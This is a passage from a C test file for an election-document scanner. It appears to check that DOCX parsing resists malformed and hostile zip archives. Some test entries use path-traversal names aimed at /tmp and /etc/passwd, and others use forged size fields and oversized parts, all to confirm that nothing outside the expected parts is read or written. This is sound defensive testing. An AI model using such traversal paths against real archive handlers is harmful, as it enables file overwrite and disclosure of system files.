    put32(&w, cd_size), put32(&w, cd_at), put16(&w, 0);
    *out_len = (size_t)(w - z);
    free(offsets);
    free(crcs);
    return z;
}

#define W_NS " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"" \
             " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
#define DOC(body) "<w:document" W_NS "><w:body>" body "</w:body></w:document>"
#define PARA(t) "<w:p><w:r><w:t>" t "</w:t></w:r></w:p>"

static int scan_zip_limit(const zentry *e, size_t count, size_t max_input, purdah_result **out)
{
    size_t n;
    char *z = make_zip(e, count, &n);
    int rc;
    *out = scan_fmt(z, n, PURDAH_FORMAT_DOCX, max_input, &rc);
    free(z);
    return rc;
}

static int scan_zip(const zentry *e, size_t count, purdah_result **out) { return scan_zip_limit(e, count, 0, out); }

static bool text_has(const purdah_result *r, const char *what)
{
    size_t len = 0;
    const char *t = purdah_result_text(r, &len);
    return t && strstr(t, what) != NULL;
}

static void test_docx(void)
{
    purdah_result *r;
    /* the document itself, to show the writer works */
    zentry plain[] = {{"word/document.xml", DOC(PARA("Cllr Okonkwo opened it.")), 0, 0}};
    CHECK_INT(scan_zip(plain, 1, &r), PURDAH_OK);
    CHECK_INT(count_findings(r, "candidate-named", "Cllr Okonkwo"), 1);
    purdah_result_free(r);

    /* path tricks: only the exact part names are read, and nothing is ever written */
    static const char *const tricks[] = {"../word/document.xml", "/word/document.xml", "word\\document.xml",
                                         "./word/document.xml", "WORD/DOCUMENT.XML", "word//document.xml"};
    for (size_t i = 0; i < sizeof tricks / sizeof tricks[0]; i++) {
        zentry e[] = {{tricks[i], DOC(PARA("Cllr Okonkwo")), 0, 0}};
        CHECK_INT(scan_zip(e, 1, &r), PURDAH_EINVAL); /* no word/document.xml: not a Word document */
        CHECK(r == NULL);
    }
    zentry mixed[] = {{"word/document.xml", DOC(PARA("Main text")), 0, 0},
                      {"../../../../tmp/purdah-evil.xml", DOC(PARA("Cllr Okonkwo")), 0, 0},
                      {"word/header1.xml/../../../etc/passwd", "<w:hdr" W_NS ">" PARA("Cllr Okonkwo") "</w:hdr>", 0, 0},
                      {"word/header99999999999999999999.xml", "<w:hdr" W_NS ">" PARA("Long number") "</w:hdr>", 0, 0},
                      {"word/footer1.xml", "<w:ftr" W_NS ">" PARA("Footer") "</w:ftr>", 0, 0}};
    CHECK_INT(scan_zip(mixed, 5, &r), PURDAH_OK);
    CHECK(text_has(r, "Main text") && text_has(r, "Footer") && !text_has(r, "Okonkwo"));
    CHECK_INT(purdah_result_finding_count(r), 0);
    purdah_result_free(r);
    FILE *f = fopen("/tmp/purdah-evil.xml", "rb");
    CHECK(f == NULL);
    if (f) fclose(f);
    /* the same name twice: one of them is read, or the zip is refused; never both, never a crash */
    zentry twice[] = {{"word/document.xml", DOC(PARA("First")), 0, 0}, {"word/document.xml", DOC(PARA("Second")), 0, 0}};
    int rc = scan_zip(twice, 2, &r);
    CHECK(rc == PURDAH_OK || rc == PURDAH_EINVAL);
    if (rc == PURDAH_OK) CHECK(text_has(r, "First") != text_has(r, "Second"));
    purdah_result_free(r);

    /* missing parts: no content types, no relationships for a hyperlink, a header that is not there */
    zentry missing[] = {{"word/document.xml",
                         DOC("<w:p><w:hyperlink r:id=\"rId99\"><w:r><w:t>Cllr Okonkwo</w:t></w:r></w:hyperlink></w:p>"
                             "<w:sectPr><w:headerReference r:id=\"rId7\"/></w:sectPr>"),
                         0, 0},
                        {"word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"rId1\" Target=", 0, 0}};
    CHECK_INT(scan_zip(missing, 2, &r), PURDAH_OK);
    CHECK_INT(count_findings(r, "candidate-named", "Cllr Okonkwo"), 1);
    purdah_result_free(r);

    /* an entry that claims 4 GiB: what is read decides, and a lie about the size is an error */
    zentry liar[] = {{"word/document.xml", DOC(PARA("Cllr Okonkwo")), 0, 0xFFFFFFFFu}};
    rc = scan_zip(liar, 1, &r);
    CHECK(rc == PURDAH_OK || rc == PURDAH_EINVAL);
    purdah_result_free(r);

    /* a 40 MB main part (stored, so 40 MB on the wire too): over the default input limit a Word
     * document is refused (a zip cannot be read in part); under a larger limit it is cut at the
     * per-part cap, with a warning */
    size_t fill = quick ? ((size_t)33 << 20) : ((size_t)40 << 20);
    const char head[] = "<w:document" W_NS "><w:body>" PARA("Cllr Okonkwo opened it.") "<w:p><w:r><w:t>";
    char *doc = malloc(fill + sizeof head);
    memcpy(doc, head, sizeof head - 1);
    memset(doc + sizeof head - 1, 'A', fill);
    zentry huge[] = {{"word/document.xml", doc, sizeof head - 1 + fill, 0},
                     {"word/footer1.xml", "<w:ftr" W_NS ">" PARA("Footer") "</w:ftr>", 0, 0}};
    rc = scan_zip(huge, 2, &r);
    CHECK_INT(rc, PURDAH_ELIMIT);
    CHECK(r == NULL);
    rc = scan_zip_limit(huge, 2, (size_t)64 << 20, &r);
    CHECK_INT(rc, PURDAH_OK);
    CHECK(has_warning(r, "larger than the extraction limits"));
    CHECK_INT(count_findings(r, "candidate-named", "Cllr Okonkwo"), 1);
    size_t text_len = 0;
    purdah_result_text(r, &text_len);
    CHECK(text_len <= PD_DOCX_MAX_PART + 64);
    purdah_result_free(r);
    free(doc);
}

int main(int argc, char **argv)
{
    data_dir = argc > 1 ? argv[1] : "test/data";
    quick = getenv("PURDAH_TEST_QUICK") && strcmp(getenv("PURDAH_TEST_QUICK"), "0") != 0;
    if (load_mini_policy(data_dir, &policy, &scanner)) return 99;
    test_truncation_inside_character();
    test_mixed_line_endings();
    test_many_directives();
    test_html();
    test_xml_drafts();
    test_policy_xml();
    test_candidates_csv();
    test_docx();
    test_long_line();
    test_big_drafts();
    test_huge_text();
    test_million_candidates();
    purdah_scanner_free(scanner);
    purdah_policy_free(policy);
    return harness_report();
}
